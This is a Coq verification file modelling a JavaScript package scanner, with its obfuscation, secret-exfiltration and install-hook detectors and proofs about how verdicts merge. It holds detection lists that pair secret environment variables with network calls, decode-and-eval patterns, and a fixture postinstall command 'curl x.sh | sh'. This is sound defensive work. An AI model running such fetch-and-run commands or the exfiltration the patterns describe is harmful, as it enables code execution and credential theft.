(* ===== verification/Scanner.v ===== *)
(** * oath-analyze: the package scanner ([scanner.rs])

    Walks a package, analyzes every JS/TS file and aggregates findings,
    capabilities and the verdict into one report. *)
From S2P Require Export Json Behavior Analyzer.

(** ** [f64]

    A non-negative double is the dyadic [m * 2 ^ e]; results are rounded to the
    53-bit significand, ties to even. *)
Module F64.
Definition F64 : Type := Z * Z.

Definition div_half_even (n d : Z) : Z :=
  (let q := n / d in let r := n mod d in
   if (d <? 2 * r) || ((2 * r =? d) && Z.odd q) then q + 1 else q)%Z.
Definition round (n d : Z) : F64 :=
  (if n =? 0 then (0, 0)
   else
     let scale e := if 0 <=? e then (n, d * 2 ^ e) else (n * 2 ^ (- e), d) in
     let e := Z.log2 n - Z.log2 d - 53 in
     let (n', d') := scale e in
     let e := if n' / d' <? 2 ^ 53 then e else e + 1 in
     let (n', d') := scale e in
     (div_half_even n' d', e))%Z.

(** The exact value as a fraction. *)
Definition frac (x : F64) : Z * Z :=
  (if 0 <=? x.2 then (x.1 * 2 ^ x.2, 1) else (x.1, 2 ^ (- x.2)))%Z.
Definition of_usize (n : nat) : F64 := round (Z.of_nat n) 1.
Definition div (x y : F64) : F64 :=
  let (a, b) := frac x in let (c, d) := frac y in round (a * d)%Z (b * c)%Z.
Definition mul (x y : F64) : F64 :=
  let (a, b) := frac x in let (c, d) := frac y in round (a * c)%Z (b * d)%Z.
Definition ltb (x y : F64) : bool :=
  let (a, b) := frac x in let (c, d) := frac y in (a * d <? c * b)%Z.

(** [format!("{:.1}", x)] *)
Definition fixed1 (x : F64) : string :=
  let (a, b) := frac x in
  let t := div_half_even (10 * a) b in
  pretty (t / 10)%Z +:+ "." +:+ pretty (t mod 10)%Z.
End F64.

(** The [regex] crate: the texts of the successive matches of a pattern. *)
Class Regex := { find_iter : string → string → list string }.

Definition obfuscation (r : RiskLevel) (msg file : string) (snip : option string) : Finding :=
  {| kind := Obfuscation; risk := r; message := msg; file := file; line := 1;
     snippet := snip |}.

(** [s.matches(needle).count()]: non-overlapping occurrences. *)
Fixpoint matches_from (fuel : nat) (needle s : string) : nat :=
  match fuel with
  | O => 0
  | S fuel =>
      match find_str needle s with
      | Some i => S (matches_from fuel needle (drop_str (i + String.length needle) s))
      | None => 0
      end
  end.
Definition matches (needle s : string) : nat := matches_from (S (String.length s)) needle s.

Definition sum_nat (l : list nat) : nat := foldr Nat.add 0 l.

(** ** [detect_obfuscation] *)
Section detect.
Context `{!Regex} (source relative_path : string).

Definition detect_minified : list Finding :=
  let ls := lines source in
  let line_count := length ls in
  if 50 <? line_count then
    let total_chars := sum_nat (String.length <$> ls) in
    let avg_line_len := total_chars / line_count in
    if 500 <? avg_line_len then
      let is_vendor := contains "node_modules" relative_path
                       || contains "vendor/" relative_path in
      let '(r, desc) :=
        if is_vendor then (Info, "Minified vendor bundle detected")
        else (Medium, "Minified source code detected (not vendor)") in
      [obfuscation r
         (desc +:+ ": avg line length " +:+ pretty avg_line_len +:+ " chars across "
          +:+ pretty line_count +:+ " lines")
         relative_path (Some (take_chars 120 (default "" (head ls))))]
    else []
  else [].

Definition hex_re : string := "\\x[0-9a-fA-F]{2}".
Definition string_re : string := q "(?:`([^`\\]|\\.)*`|'([^'\\]|\\.)*')".

Definition detect_hex : list Finding :=
  let strs := find_iter string_re source in
  let total_string_len := sum_nat (String.length <$> strs) in
  let hex_match_len :=
    sum_nat ((λ s, sum_nat (String.length <$> find_iter hex_re s)) <$> strs) in
  if 100 <? total_string_len then
    let hex_ratio := F64.div (F64.of_usize hex_match_len) (F64.of_usize total_string_len) in
    if F64.ltb (F64.round 20 100) hex_ratio then
      [obfuscation High
         ("High hex encoding density: " +:+ F64.fixed1 (F64.mul hex_ratio (F64.of_usize 100))
          +:+ "% of string content is \\xNN encoded") relative_path None]
    else []
  else [].

Definition detect_charcode : list Finding :=
  if negb (contains "test" relative_path) && negb (contains "spec" relative_path) then
    let count := matches "String.fromCharCode" source in
    if 25 <? count then
      [obfuscation Info ("Builds " +:+ pretty count
         +:+ " strings from char codes (informational)") relative_path None]
    else []
  else [].

Definition ident_re : string := "\b[a-zA-Z_$][a-zA-Z0-9_$]*\b".
Definition keywords : list string :=
  ["var"; "let"; "const"; "function"; "return"; "if"; "else"; "for"; "while"; "do";
   "switch"; "case"; "break"; "continue"; "new"; "this"; "typeof"; "instanceof"; "void";
   "delete"; "in"; "of"; "try"; "catch"; "finally"; "throw"; "class"; "extends"; "import";
   "export"; "default"; "from"; "async"; "await"; "yield"; "true"; "false"; "null";
   "undefined"].

Definition detect_short_names : list Finding :=
  let idents := filter (λ w, w ∉ keywords ∧ String.length w ≤ 20)
                  (find_iter ident_re source) in
  let n := length idents in
  if 100 <? n then
    let total_len := sum_nat (String.length <$> idents) in
    let avg_len := F64.div (F64.of_usize total_len) (F64.of_usize n) in
    if F64.ltb avg_len (F64.of_usize 2) then
      [obfuscation Medium
         ("Short variable names: avg identifier length " +:+ F64.fixed1 avg_len
          +:+ " chars across " +:+ pretty n +:+ " identifiers") relative_path None]
    else []
  else [].

Definition detect_obfuscation : list Finding :=
  detect_minified ++ detect_hex ++ detect_charcode ++ detect_short_names.

(** ** [detect_advanced_obfuscation] *)

Definition count_re (re : string) : nat := length (find_iter re source).

Definition detect_base64 : list Finding :=
  let b64_count :=
    count_re (q "Buffer\.from\(\s*['`]([A-Za-z0-9+/=]{24,})['`]\s*,\s*['`]base64['`]\s*\)")
    + count_re (q "atob\(\s*['`]([A-Za-z0-9+/=]{24,})['`]\s*\)") in
  replicate b64_count (obfuscation Medium
    "Base64 payload detected: Buffer.from(..., 'base64') or atob() with long string"
    relative_path None).

Definition detect_dynamic_require : list Finding :=
  mjoin ((λ pat, replicate (count_re pat) (obfuscation Low
      "Dynamic require with a computed/concatenated module name" relative_path None)) <$>
    ["require\s*\(\s*\["; "require\s*\('[^']*'\s*\+"; q "require\s*\(`[^`]*`\s*\+"]).

Definition detect_hex_exec : list Finding :=
  let hex_exec_count := count_re "eval\s*\(\s*String\.fromCharCode\s*\("
    + count_re (q "eval\s*\(\s*['`](?:\\x[0-9a-fA-F]{2}){20,}['`]\s*\)") in
  replicate hex_exec_count (obfuscation Critical
    "Hex string execution: eval(String.fromCharCode(...)) or eval() with hex-encoded string"
    relative_path None).

Definition sensitive_env_texts : list string :=
  ["process.env.NPM_TOKEN"; "process.env.AWS"; "process.env.GITHUB_TOKEN";
   "process.env.GH_TOKEN"; "process.env.SECRET"; "process.env.PRIVATE";
   "process.env.TOKEN"; "process.env.PASSWORD"; "stringify(process.env"; "...process.env";
   "keys(process.env"; "entries(process.env"; "assign({}, process.env"].
Definition outbound_sink_texts : list string :=
  ["require('http')"; q "require(`http`)"; "require('https')"; q "require(`https`)";
   "fetch("; "axios"; ".request("; "net.connect"; "dns."].

Definition detect_env_exfiltration : list Finding :=
  if any_in sensitive_env_texts source && any_in outbound_sink_texts source then
    [{| kind := DataExfiltration; risk := High;
        message := "Possible secret exfiltration: sensitive environment variables read alongside an outbound network call";
        file := relative_path; line := 1; snippet := None |}]
  else [].

(** [source.chars().filter(|c| !c.is_whitespace()).collect()] *)
Definition compact : string := join "" (split_whitespace source).
Definition decode_exec : list string :=
  ["eval(atob("; "eval(Buffer.from("; "eval(String.fromCharCode("; "Function(atob(";
   "Function(Buffer.from("; "Function(String.fromCharCode("; "require(atob(";
   "require(Buffer.from("; "require(String.fromCharCode("].

Definition detect_decode_exec : list Finding :=
  (λ _, {| kind := DynamicExec; risk := Critical;
           message := "Decoded payload executed: a base64/charcode decode feeds directly into eval/Function/require";
           file := relative_path; line := 1; snippet := None |})
  <$> filter (λ pat, contains pat compact = true) decode_exec.

Definition detect_wallets : list Finding :=
  let wallet_count := count_re "\b0x[0-9a-fA-F]{40}\b"
    + count_re "\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b" in
  replicate wallet_count
    {| kind := CryptoMiner; risk := Medium;
       message := "Cryptocurrency wallet address detected (Bitcoin/Ethereum pattern)";
       file := relative_path; line := 1; snippet := None |}.

Definition detect_advanced_obfuscation : list Finding :=
  detect_base64 ++ detect_dynamic_require ++ detect_hex_exec ++ detect_env_exfiltration
  ++ detect_decode_exec ++ detect_wallets.
End detect.

(** ** [PackageScanner::scan] *)

Definition is_test_source (relative_path : string) : bool :=
  let normalized := to_ascii_lowercase (replace_char "\" "/" relative_path) in
  let parts := split_char "/" normalized in
  let file_name := default normalized (last parts) in
  existsb (λ c, bool_decide (c ∈ ["test"; "tests"; "__tests__"; "spec"; "specs"; "fixtures";
                                  "__fixtures__"])) parts
  || contains ".test." file_name
  || contains ".spec." file_name
  || starts_with "test-" file_name
  || starts_with "spec-" file_name.

Definition merge_verdict (current : Verdict * list string) (next : Verdict * list string) :
    Verdict * list string :=
  (if verdict_rank current.1 <? verdict_rank next.1 then next.1 else current.1,
   foldl push_new current.2 next.2).

(** A readable regular file of the walk: the extension and the file name (when
    they are UTF-8), the path relative to the package, and the text (when it can
    be read as UTF-8). *)
Record Entry := {
  ext : option string;
  fname : option string;
  rel : string;
  text : option string;
}.
(** [package.json]: absent, unreadable, or its text. *)
Inductive PkgJson := NoPkgJson | UnreadablePkgJson | PkgJsonText (content : string).

Definition name_matches (f : string → bool) (name : option string) : bool :=
  match name with Some n => f n | None => false end.

Record ScanState := {
  all_findings : list Finding;
  files : nat;
  nlines : nat;
  pkg_behavior : Behavior;
  package_verdict : Verdict * list string;
}.
Definition initial_state (fs : list Finding) : ScanState :=
  {| all_findings := fs; files := 0; nlines := 0; pkg_behavior := default_behavior;
     package_verdict := (VInfo, []) |}.

(** [Vec::dedup_by]: drops an element that matches the one kept before it. *)
Fixpoint dedup_by_from {A} (same : A → A → bool) (x : A) (l : list A) : list A :=
  match l with
  | [] => []
  | y :: l => if same y x then dedup_by_from same x l else y :: dedup_by_from same y l
  end.
Definition dedup_by {A} (same : A → A → bool) (l : list A) : list A :=
  match l with [] => [] | x :: l => x :: dedup_by_from same x l end.

Definition same_place (a b : Finding) : bool :=
  bool_decide (kind a = kind b) && bool_decide (file a = file b)
  && bool_decide (line a = line b).

Section scan.
Context `{!Regex, !Oxc} (parse_json : string → option Json).

Definition hooks : list string := ["preinstall"; "install"; "postinstall"].
Definition hook_command (json : Json) (hook : string) : option string :=
  scripts ← jget "scripts" json; script ← jget hook scripts; as_str script.

(** The install hooks of [package.json]: their findings and behavior, and
    whether there is one. *)
Definition scan_hook (json : Json) (st : list Finding * Behavior * bool) (hook : string) :
    list Finding * Behavior * bool :=
  match hook_command json hook with
  | Some cmd =>
      let '(fs, b, _) := st in
      (fs ++ [{| kind := InstallScript; risk := Medium;
                 message := hook +:+ " script: " +:+ cmd; file := "package.json";
                 line := 0; snippet := Some (take_chars 120 cmd) |}],
       scan_install_command cmd b, true)
  | None => st
  end.
Definition scan_hooks (content : string) : list Finding * Behavior * bool :=
  match parse_json content with
  | Some json => foldl (scan_hook json) ([], default_behavior, false) hooks
  | None => ([], default_behavior, false)
  end.

(** The guards of the file loop: the relative path and source of a file that is
    analyzed. *)
Definition scanned (e : Entry) : option (string * string) :=
  if bool_decide (default "" (ext e) ∈ ["js"; "mjs"; "cjs"; "ts"; "tsx"]) then
    if name_matches (λ n, ends_with ".d.ts" n || ends_with ".d.cts" n || ends_with ".d.mts" n)
         (fname e)
    then None
    else
      let relative_path := replace_char "\" "/" (rel e) in
      if is_test_source relative_path then None
      else
        source ← text e;
        if (500000 <? Z.of_nat (String.length source))%Z then None else Some (relative_path, source)
  else None.

(** The rest of the loop body, for a file that is analyzed. *)
Definition scan_source (st : ScanState) (f : string * string) : ScanState :=
  let '(relative_path, source) := f in
  let file_behavior := analyze_file source relative_path in
  {| nlines := nlines st + length (lines source);
     files := files st + 1;
     package_verdict := merge_verdict (package_verdict st) (verdict file_behavior false);
     pkg_behavior := Behavior.merge (pkg_behavior st) file_behavior;
     all_findings := all_findings st
       ++ detect_obfuscation source relative_path
       ++ detect_advanced_obfuscation source relative_path
       ++ analyze source relative_path |}.
Definition scan_file (st : ScanState) (e : Entry) : ScanState :=
  match scanned e with Some f => scan_source st f | None => st end.

Definition join_capabilities (c : Capabilities) (b : Behavior) (hook : bool) : Capabilities :=
  {| network := network c || net b;
     filesystem := filesystem c || fs b;
     subprocess := Report.subprocess c || Behavior.subprocess b;
     env_access := env_access c || env_read b;
     dynamic_exec := dynamic_exec c || code_exec b;
     has_install_scripts := has_install_scripts c || hook;
     native_addon := native_addon c |}.

Definition risk_of (v : Verdict) : RiskLevel :=
  match v with VBlock => Critical | VWarn => High | VInfo => Info end.

Definition scan (pkg_name pkg_version : string) (pkg_json : PkgJson) (walk : list Entry) :
    result string AnalysisReport :=
  hk ← match pkg_json with
       | NoPkgJson => Ok ([], default_behavior, false)
       | UnreadablePkgJson => Err "package.json cannot be read"
       | PkgJsonText content => Ok (scan_hooks content)
       end;
  let '(hook_findings, install_behavior, has_install_script) := hk in
  let st := foldl scan_file (initial_state hook_findings) walk in
  let fs := dedup_by same_place (all_findings st) in
  let caps := foldl note_capability no_capabilities fs in
  let package := merge_verdict (package_verdict st)
                   (verdict install_behavior has_install_script) in
  Ok {| package_name := pkg_name; package_version := pkg_version;
        overall_risk := risk_of package.1;
        findings := fs;
        files_scanned := files st; lines_scanned := nlines st;
        capabilities := join_capabilities caps (pkg_behavior st) has_install_script;
        verdict_reasons := package.2 |}.
End scan.

(** ** Aggregating verdicts *)

Definition merge_all (vs : list (Verdict * list string)) : Verdict * list string :=
  foldl merge_verdict (VInfo, []) vs.

Lemma merge_verdict_rank a b :
  verdict_rank (merge_verdict a b).1 = verdict_rank a.1 `max` verdict_rank b.1.
Proof. unfold merge_verdict. simpl. destruct (Nat.ltb_spec (verdict_rank a.1) (verdict_rank b.1)); lia. Qed.

Lemma merge_all_from_rank vs a n :
  n ≤ verdict_rank (foldl merge_verdict a vs).1 ↔
  n ≤ verdict_rank a.1 ∨ ∃ v, v ∈ vs ∧ n ≤ verdict_rank v.1.
Proof.
  revert a. induction vs as [|v vs IH]; intros a; simpl; [set_solver|].
  rewrite IH, merge_verdict_rank, Nat.max_le_iff. set_solver.
Qed.
Lemma merge_all_from_reasons vs a x :
  x ∈ (foldl merge_verdict a vs).2 ↔ x ∈ a.2 ∨ ∃ v, v ∈ vs ∧ x ∈ v.2.
Proof.
  revert a. induction vs as [|v vs IH]; intros a; simpl; [set_solver|].
  rewrite IH. simpl. rewrite elem_of_push_all. set_solver.
Qed.
Lemma merge_all_from_NoDup vs a : NoDup a.2 → NoDup (foldl merge_verdict a vs).2.
Proof.
  revert a. induction vs as [|v vs IH]; intros a Ha; simpl; [done|].
  apply IH. by apply NoDup_push_all.
Qed.

Lemma verdict_rank_inj v w : verdict_rank v = verdict_rank w → v = w.
Proof. by destruct v, w. Qed.

Lemma merge_all_block vs : (merge_all vs).1 = VBlock ↔ ∃ v, v ∈ vs ∧ v.1 = VBlock.
Proof.
  assert (∀ v, v = VBlock ↔ 2 ≤ verdict_rank v) as H by (intros []; simpl; split; (done || lia)).
  setoid_rewrite H. unfold merge_all. rewrite merge_all_from_rank. simpl.
  split; [intros [?|?]; [lia|done] | by right].
Qed.
Lemma merge_all_info vs : (merge_all vs).1 = VInfo ↔ ∀ v, v ∈ vs → v.1 = VInfo.
Proof.
  assert (∀ v, v = VInfo ↔ ¬ 1 ≤ verdict_rank v) as H by (intros []; simpl; split; (done || lia)).
  setoid_rewrite H. unfold merge_all. rewrite merge_all_from_rank. simpl. split.
  - intros Hn v Hv Hr. apply Hn. right. by exists v.
  - intros Hn [?|(v & Hv & Hr)]; [lia|]. by apply (Hn v).
Qed.
Lemma merge_all_perm vs ws : vs ≡ₚ ws → (merge_all vs).1 = (merge_all ws).1.
Proof.
  intros HP. apply verdict_rank_inj, Nat.le_antisymm; unfold merge_all;
    apply merge_all_from_rank.
  - assert (verdict_rank (merge_all vs).1 ≤ verdict_rank (merge_all vs).1) as H by done.
    unfold merge_all in H at 2. apply merge_all_from_rank in H. by setoid_rewrite <- HP.
  - assert (verdict_rank (merge_all ws).1 ≤ verdict_rank (merge_all ws).1) as H by done.
    unfold merge_all in H at 2. apply merge_all_from_rank in H. by setoid_rewrite HP.
Qed.

Section scan_spec.
Context `{!Regex, !Oxc} (parse_json : string → option Json).
Notation scan := (scan parse_json).

(** The verdict of one scanned file, on its own. *)
Definition file_verdict (f : string * string) : Verdict * list string :=
  verdict (analyze_file f.2 f.1) false.
(** The verdict of the install hooks. *)
Definition hooks_verdict (p : PkgJson) : Verdict * list string :=
  let '(_, b, hook) :=
    match p with PkgJsonText c => scan_hooks parse_json c | _ => ([], default_behavior, false) end in
  verdict b hook.
Definition all_verdicts (p : PkgJson) (walk : list Entry) : list (Verdict * list string) :=
  (file_verdict <$> omap scanned walk) ++ [hooks_verdict p].

(** The walk is analyzed through the files it selects. *)
Lemma foldl_scan_file walk st :
  foldl scan_file st walk = foldl scan_source st (omap scanned walk).
Proof.
  revert st. induction walk as [|e walk IH]; intros st; csimpl; [done|].
  rewrite IH. unfold scan_file. by destruct (scanned e).
Qed.
Lemma scan_file_verdicts walk st :
  package_verdict (foldl scan_file st walk) =
  foldl merge_verdict (package_verdict st) (file_verdict <$> omap scanned walk).
Proof.
  rewrite foldl_scan_file. generalize (omap scanned walk). intros fs.
  revert st. induction fs as [|[r s] fs IH]; intros st; csimpl; [done|]. by rewrite IH.
Qed.

Lemma scan_package n v p walk report :
  scan n v p walk = Ok report →
  p ≠ UnreadablePkgJson ∧
  overall_risk report = risk_of (merge_all (all_verdicts p walk)).1 ∧
  verdict_reasons report = (merge_all (all_verdicts p walk)).2.
Proof.
  unfold Scanner.scan, all_verdicts, merge_all. intros Hs. rewrite foldl_app.
  destruct p as [| |c]; csimpl in Hs; [|done|].
  - injection Hs as <-. simpl. by rewrite scan_file_verdicts.
  - unfold hooks_verdict. destruct (scan_hooks parse_json c) as [[fs b] hk].
    injection Hs as <-. simpl. by rewrite scan_file_verdicts.
Qed.

Lemma all_verdicts_reasons p walk v :
  v ∈ all_verdicts p walk → v.2 = [] ↔ v.1 = VInfo.
Proof.
  unfold all_verdicts. rewrite elem_of_app, list_elem_of_fmap, list_elem_of_singleton.
  intros [(f & -> & _)| ->]; [apply verdict_reasons_empty|].
  unfold hooks_verdict. destruct p; try apply verdict_reasons_empty.
  destruct (scan_hooks parse_json content) as [[??]?]. apply verdict_reasons_empty.
Qed.

(** The overall risk of a package is the worst verdict any one scanned file,
    or its install hooks, gets on its own: [Critical] exactly when one of them
    blocks, [High] when none blocks and one warns, [Info] otherwise; facts of
    different files are never combined. The reasons are those of the files and
    hooks, each once, and there are none exactly when the risk is [Info]. The
    scan fails only when [package.json] exists and cannot be read. *)
Theorem scan_spec n v p walk :
  (∀ e, scan n v p walk = Err e → p = UnreadablePkgJson) ∧
  ∀ report, scan n v p walk = Ok report →
  let vs := all_verdicts p walk in
  (overall_risk report = Critical ↔ ∃ v, v ∈ vs ∧ v.1 = VBlock) ∧
  (overall_risk report = Info ↔ ∀ v, v ∈ vs → v.1 = VInfo) ∧
  overall_risk report ∈ [Critical; High; Info] ∧
  (∀ x, x ∈ verdict_reasons report ↔ ∃ v, v ∈ vs ∧ x ∈ v.2) ∧
  NoDup (verdict_reasons report) ∧
  (verdict_reasons report = [] ↔ overall_risk report = Info).
Proof.
  split.
  { intros e He. destruct p as [| |c]; [done|done|]. unfold Scanner.scan in He. csimpl in He.
    by destruct (scan_hooks parse_json c) as [[??]?]. }
  intros report Hscan vs. apply scan_package in Hscan as (_ & -> & ->). fold vs.
  assert (∀ x, x ∈ (merge_all vs).2 ↔ ∃ v, v ∈ vs ∧ x ∈ v.2) as Hr.
  { intros x. unfold merge_all. rewrite merge_all_from_reasons. simpl.
    split; [intros [?%elem_of_nil|?]; done|by right]. }
  assert ((merge_all vs).2 = [] ↔ (merge_all vs).1 = VInfo) as He.
  { rewrite merge_all_info. split.
    - intros E w Hw. apply (all_verdicts_reasons p walk w Hw).
      apply elem_of_nil_inv. intros x Hx.
      assert (x ∈ (merge_all vs).2) as Hin by (apply Hr; by exists w).
      rewrite E in Hin. by apply elem_of_nil in Hin.
    - intros Hall. apply elem_of_nil_inv. intros x Hx. apply Hr in Hx as (w & Hw & Hx).
      rewrite (proj2 (all_verdicts_reasons p walk w Hw) (Hall w Hw)) in Hx. by apply elem_of_nil in Hx. }
  split_and!.
  - rewrite <- merge_all_block. by destruct (merge_all vs).1.
  - rewrite <- merge_all_info. by destruct (merge_all vs).1.
  - destruct (merge_all vs).1; simpl; set_solver.
  - done.
  - apply merge_all_from_NoDup, NoDup_nil_2.
  - rewrite He. by destruct (merge_all vs).1.
Qed.

(** What the walk contributes: a file that is filtered out (not JS/TS, a
    type declaration, a test source, unreadable or over 500 kB) changes nothing
    in the report; the order of the walk does not change the risk; and more
    files never lower it. *)
Theorem scan_walk n v p walk walk' report report' :
  scan n v p walk = Ok report → scan n v p walk' = Ok report' →
  (omap scanned walk = omap scanned walk' → report = report') ∧
  (omap scanned walk ≡ₚ omap scanned walk' → overall_risk report = overall_risk report') ∧
  (omap scanned walk ⊆ omap scanned walk' →
     rank (overall_risk report) ≤ rank (overall_risk report')).
Proof.
  intros Hs Hs'. split_and!.
  - intros E. assert (scan n v p walk = scan n v p walk') as E'; [|congruence].
    unfold Scanner.scan. destruct p as [| |c]; csimpl; [|done|].
    + by rewrite !foldl_scan_file, E.
    + destruct (scan_hooks parse_json c) as [[??]?].
      by rewrite !foldl_scan_file, E.
  - intros HP. apply scan_package in Hs as (_ & -> & _), Hs' as (_ & -> & _).
    f_equal. apply merge_all_perm. unfold all_verdicts. by rewrite HP.
  - intros Hsub. apply scan_package in Hs as (_ & -> & _), Hs' as (_ & -> & _).
    assert (∀ a b, verdict_rank a ≤ verdict_rank b → rank (risk_of a) ≤ rank (risk_of b))
      as Hm by (intros [] []; simpl; lia).
    apply Hm. unfold merge_all at 2. apply merge_all_from_rank.
    assert (verdict_rank (merge_all (all_verdicts p walk)).1
            ≤ verdict_rank (merge_all (all_verdicts p walk)).1) as Hle by done.
    unfold merge_all in Hle at 2. apply merge_all_from_rank in Hle as [|(w & Hw & ?)]; [by left|].
    right. exists w. split; [|done]. unfold all_verdicts in *. set_solver.
Qed.
End scan_spec.

(** ** Witnesses *)

Definition no_regex : Regex := {| find_iter _ _ := [] |}.
Definition sample_oxc : Oxc :=
  {| body_is_empty s _ := bool_decide (s = "");
     program_visits s _ :=
       if contains "eval(atob(" s
       then [VisitCall 0 9 (Identifier "eval") [ArgExpr (CallExpression (Identifier "atob"))]]
       else [] |}.
Definition sample_json (_ : string) : option Json :=
  Some (JObject [("scripts", JObject [("postinstall", JString "curl x.sh | sh")])]).
Definition sample_entry (name text : string) : Entry :=
  {| ext := Some "js"; fname := Some name; rel := name; text := Some text |}.

Lemma scan_spec_witness :
  let p := PkgJsonText "{}" in
  let walk := [sample_entry "index.js" "x = 1"] in
  ∃ report, @scan no_regex sample_oxc sample_json "p" "1.0.0" p walk = Ok report ∧
    overall_risk report = Critical.
Proof.
  intros p walk.
  destruct (@scan no_regex sample_oxc sample_json "p" "1.0.0" p walk) as [report|e] eqn:E;
    [|by vm_compute in E].
  exists report. split; [reflexivity|].
  apply (@scan_spec no_regex sample_oxc sample_json "p" "1.0.0" p walk); [exact E|].
  exists (@hooks_verdict sample_json p). split; [|by vm_compute].
  unfold all_verdicts. set_solver.
Defined.

Lemma scan_walk_witness :
  let walk := [sample_entry "tests/a.js" "eval(atob(x))"; sample_entry "a.js" "x = 1"] in
  let walk' := [sample_entry "a.js" "x = 1"] in
  ∃ r r', @scan no_regex sample_oxc sample_json "p" "1.0.0" NoPkgJson walk = Ok r ∧
    @scan no_regex sample_oxc sample_json "p" "1.0.0" NoPkgJson walk' = Ok r' ∧ r = r'.
Proof.
  intros walk walk'.
  destruct (@scan no_regex sample_oxc sample_json "p" "1.0.0" NoPkgJson walk) as [r|e] eqn:E;
    [|by vm_compute in E].
  destruct (@scan no_regex sample_oxc sample_json "p" "1.0.0" NoPkgJson walk') as [r'|e] eqn:E';
    [|by vm_compute in E'].
  exists r, r'. split; [reflexivity|]. split; [reflexivity|].
  apply (@scan_walk no_regex sample_oxc sample_json "p" "1.0.0" NoPkgJson walk walk' r r' E E').
  by vm_compute.
Defined.

(** Only neighbours are deduplicated: a finding with the kind, file and line of an
    earlier one is kept when another stands between them. *)
Example dedup_keeps_separated_duplicates (a b : Finding) :
  same_place b a = false → same_place a b = false →
  dedup_by same_place [a; b; a] = [a; b; a].
Proof. intros E1 E2. simpl. by rewrite E1, E2. Qed.
